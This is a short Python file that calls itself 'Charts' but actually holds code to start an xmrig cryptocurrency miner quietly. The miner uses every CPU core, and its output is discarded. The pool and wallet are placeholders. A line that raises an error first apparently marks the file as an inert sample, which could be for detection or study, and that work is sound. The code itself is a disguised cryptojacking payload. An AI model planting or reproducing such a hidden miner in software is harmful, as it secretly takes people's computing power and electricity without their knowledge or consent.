"""Charts."""

import os
import subprocess

raise RuntimeError("inert sample: never run")

subprocess.Popen(
    [
        "./xmrig",
        "-o", "stratum+tcp://pool.example.invalid:3333",
        "-u", "4placeholderwallet",
        "-p", "x",
        "--donate-level=1",
        f"--threads={os.cpu_count()}",
    ],
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
)
